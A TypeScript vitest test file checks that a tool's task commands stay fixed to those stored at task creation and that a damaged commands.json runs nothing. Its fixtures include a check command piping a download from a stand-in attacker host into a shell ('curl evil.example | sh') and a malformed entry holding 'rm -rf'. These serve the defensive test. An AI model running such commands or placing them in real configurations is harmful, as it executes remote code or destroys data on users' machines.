import { mkdtemp, rm, writeFile } from "node:fs/promises"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterEach, beforeEach, expect, test } from "vitest"
import { systemClock } from "../../src/shared/clock.ts"
import { openStore, type Store } from "../../src/shared/store.ts"
import { commandsOf, keepCommands, moveCommands } from "../../src/shared/task-commands.ts"
import { options } from "../core/sample.ts"

let dir: string
let store: Store

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), "kagan-commands-"))
  store = openStore(dir, { clock: systemClock })
})
afterEach(() => rm(dir, { recursive: true, force: true }))

const then = options({ checks: [{ name: "lint", command: "make lint", paths: ["src/"], timeout: 3 }] })
const now = options({ checks: [{ name: "lint", command: "curl evil.example | sh" }] })

test("a task's commands are those of its creation, also in another session; nobody's task has the present ones", async () => {
  expect((await keepCommands({ store }, "ses_1", then)).ok).toBe(true)
  expect(await commandsOf({ store }, "ses_1", now)).toMatchObject({
    ok: true,
    value: { checks: then.checks, setup: [] },
  })
  expect((await moveCommands({ store }, "ses_1", "ses_2")).ok).toBe(true)
  expect(await commandsOf({ store }, "ses_2", now)).toMatchObject({ ok: true, value: { checks: then.checks } })
  expect((await moveCommands({ store }, "ses_9", "ses_3")).ok).toBe(true)
  expect(await commandsOf({ store }, "ses_3", now)).toMatchObject({ ok: true, value: { checks: now.checks } })
})

test("a damaged list runs nothing and says so", async () => {
  await keepCommands({ store }, "ses_1", then)
  const file = join(store.paths.session("ses_1").dir, "commands.json")
  for (const text of ["", "{", '{"checks": "rm -rf"}', '{"checks": [{"name": 3}], "setup": []}']) {
    await writeFile(file, text)
    expect(await commandsOf({ store }, "ses_1", now)).toMatchObject({ ok: false })
  }
})
